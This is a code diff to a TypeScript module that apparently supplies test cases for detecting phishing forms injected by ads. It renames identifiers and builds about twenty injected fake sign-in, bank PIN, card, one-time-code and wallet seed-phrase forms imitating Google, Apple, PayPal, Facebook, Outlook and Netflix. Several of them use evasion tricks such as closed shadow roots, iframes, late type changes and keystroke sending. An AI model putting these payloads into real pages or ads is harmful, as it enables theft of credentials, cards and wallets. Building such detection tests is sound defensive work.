@@ -1,91 +1,91 @@
-import { type At, quoted } from '../at.ts'
-import { effectsOf } from './effect.ts'
+import { type CaseContext, quote } from '../case-context.ts'
+import { createEffects } from './effect.ts'
 
-/** The field is at the same place in each, so the reader finds it without looking into the ad. */
+/** The field is always at the same position, so the test finds it without looking into the ad. */
 const box = 'position:absolute;left:0;top:0;width:300px;height:240px;background:#fff;color:#000;z-index:5'
 const field = 'position:absolute;left:20px;top:80px;width:240px;height:30px;box-sizing:border-box'
 const button = 'position:absolute;left:20px;top:140px;width:120px;height:30px'
 const page = (title: string, inner: string) => `<div style="${box}"><b>${title}</b>${inner}</div>`
-const formTo = (at: At, title: string, input: string, more = '') =>
+const formTo = (context: CaseContext, title: string, input: string, more = '') =>
   page(
     title,
-    `<form action="${at.url('in')}" ${more}>${input.replace('<input', `<input name="v" style="${field}"`)}<button style="${button}">Sign in</button></form>`,
+    `<form action="${context.url('in')}" ${more}>${input.replace('<input', `<input name="v" style="${field}"`)}<button style="${button}">Sign in</button></form>`,
   )
-const insert = (markup: string) => `S.insertAdjacentHTML('beforeend',${quoted(markup)})`
+const insert = (markup: string) => `S.insertAdjacentHTML('beforeend',${quote(markup)})`
 const password = '<input type="password" placeholder="Password">'
 
-export const phishingForms = effectsOf(
+export const phishingForms = createEffects(
   'phishing-form',
   'credential',
   {
-    'password field': (at) => insert(formTo(at, 'Sign in to your mail', password)),
-    'bank login': (at) =>
+    'password field': (context) => insert(formTo(context, 'Sign in to your mail', password)),
+    'bank login': (context) =>
       insert(
         formTo(
-          at,
+          context,
           'My Bank: confirm your account',
           '<input type="password" autocomplete="current-password" placeholder="PIN">',
           'method="post"',
         ),
       ),
-    'card form': (at) =>
+    'card form': (context) =>
       insert(
         formTo(
-          at,
+          context,
           'Pay 1.00 for delivery',
           '<input autocomplete="cc-number" inputmode="numeric" placeholder="Card number">',
         ),
       ),
-    'card form without hints': (at) =>
-      insert(formTo(at, 'Card number and CVV', '<input name="cardnumber" placeholder="0000 0000 0000 0000">')),
-    'becomes a password field later': (at) =>
-      `${insert(formTo(at, 'Apple ID', '<input id="q2" placeholder="Password">'))};setTimeout(function(){document.getElementById('q2').type='password'},80)`,
-    'type by attribute': (at) =>
-      `${insert(formTo(at, 'Apple ID', '<input id="q3">'))};document.getElementById('q3').setAttribute('type','password')`,
-    'password look by style': (at) =>
+    'card form without hints': (context) =>
+      insert(formTo(context, 'Card number and CVV', '<input name="cardnumber" placeholder="0000 0000 0000 0000">')),
+    'becomes a password field later': (context) =>
+      `${insert(formTo(context, 'Apple ID', '<input id="q2" placeholder="Password">'))};setTimeout(function(){document.getElementById('q2').type='password'},80)`,
+    'type by attribute': (context) =>
+      `${insert(formTo(context, 'Apple ID', '<input id="q3">'))};document.getElementById('q3').setAttribute('type','password')`,
+    'password look by style': (context) =>
       insert(
-        formTo(at, 'Your password', '<input type="text" placeholder="Password">').replace(
+        formTo(context, 'Your password', '<input type="text" placeholder="Password">').replace(
           field,
           `${field};-webkit-text-security:disc`,
         ),
       ),
-    'made of elements': (at) =>
-      `var b=document.createElement('div'),f=document.createElement('form'),i=document.createElement('input');b.style.cssText='${box}';f.action=${quoted(at.url('in'))};i.type='password';i.name='v';i.style.cssText='${field}';b.append('Google: sign in to continue');f.appendChild(i);b.appendChild(f);S.appendChild(b)`,
-    'sent by code': (at) =>
-      `${insert(page('Session expired. Sign in again', `<input id="q4" type="password" style="${field}"><button style="${button}">Go on</button>`))};document.getElementById('q4').addEventListener('keyup',function(){${at.send('this.value')}})`,
-    'sent on change': (at) =>
-      `${insert(page('Session expired. Enter your password', `<input id="q5" type="password" style="${field}"><button style="${button}">Go on</button>`))};document.getElementById('q5').onchange=function(){${at.send('this.value')}}`,
-    'shadow root': (at) =>
-      `var h=document.createElement('div');S.appendChild(h);h.attachShadow({mode:'closed'}).innerHTML=${quoted(formTo(at, 'Facebook: log in', password))}`,
-    'nested frame': (at) =>
-      `var f=document.createElement('iframe');f.style.cssText='position:absolute;left:0;top:0;width:300px;height:240px;border:0;z-index:5';f.srcdoc=${quoted(`<body style="margin:0">${formTo(at, 'Sign in', password)}`)};S.appendChild(f)`,
-    formaction: (at) =>
+    'made of elements': (context) =>
+      `var b=document.createElement('div'),f=document.createElement('form'),i=document.createElement('input');b.style.cssText='${box}';f.action=${quote(context.url('in'))};i.type='password';i.name='v';i.style.cssText='${field}';b.append('Google: sign in to continue');f.appendChild(i);b.appendChild(f);S.appendChild(b)`,
+    'sent by code': (context) =>
+      `${insert(page('Session expired. Sign in again', `<input id="q4" type="password" style="${field}"><button style="${button}">Go on</button>`))};document.getElementById('q4').addEventListener('keyup',function(){${context.send('this.value')}})`,
+    'sent on change': (context) =>
+      `${insert(page('Session expired. Enter your password', `<input id="q5" type="password" style="${field}"><button style="${button}">Go on</button>`))};document.getElementById('q5').onchange=function(){${context.send('this.value')}}`,
+    'shadow root': (context) =>
+      `var h=document.createElement('div');S.appendChild(h);h.attachShadow({mode:'closed'}).innerHTML=${quote(formTo(context, 'Facebook: log in', password))}`,
+    'nested frame': (context) =>
+      `var f=document.createElement('iframe');f.style.cssText='position:absolute;left:0;top:0;width:300px;height:240px;border:0;z-index:5';f.srcdoc=${quote(`<body style="margin:0">${formTo(context, 'Sign in', password)}`)};S.appendChild(f)`,
+    formaction: (context) =>
       insert(
         page(
           'Outlook: your password has expired',
-          `<form><input name="v" type="password" style="${field}"><button formaction="${at.url('in')}" style="${button}">Renew</button></form>`,
+          `<form><input name="v" type="password" style="${field}"><button formaction="${context.url('in')}" style="${button}">Renew</button></form>`,
         ),
       ),
-    'form attribute': (at) =>
+    'form attribute': (context) =>
       insert(
         page(
           'PayPal: confirm your password',
-          `<form id="q6" action="${at.url('in')}"></form><input form="q6" name="v" type="password" style="${field}"><button form="q6" style="${button}">Confirm</button>`,
+          `<form id="q6" action="${context.url('in')}"></form><input form="q6" name="v" type="password" style="${field}"><button form="q6" style="${button}">Confirm</button>`,
         ),
       ),
-    'one-time code': (at) =>
+    'one-time code': (context) =>
       insert(
         formTo(
-          at,
+          context,
           'Enter the code we sent to your phone',
           '<input autocomplete="one-time-code" placeholder="6-digit code">',
         ),
       ),
-    'seed phrase': (at) =>
-      insert(formTo(at, 'Connect your wallet', '<input placeholder="Recovery phrase (12 words)">')),
-    'into the page': (at) => insert(formTo(at, 'Sign in', password, 'target="_top" method="post"')),
-    'set as html': (at) =>
-      `S.innerHTML=${quoted(formTo(at, 'Netflix: update your payment', '<input autocomplete="cc-number" placeholder="Card number">'))}`,
+    'seed phrase': (context) =>
+      insert(formTo(context, 'Connect your wallet', '<input placeholder="Recovery phrase (12 words)">')),
+    'into the page': (context) => insert(formTo(context, 'Sign in', password, 'target="_top" method="post"')),
+    'set as html': (context) =>
+      `S.innerHTML=${quote(formTo(context, 'Netflix: update your payment', '<input autocomplete="cc-number" placeholder="Card number">'))}`,
   },
-  { isNeverMeant: true, isInPlace: true, isEarly: true },
+  { isNeverAllowed: true, isInPlace: true, isEarly: true },
 )
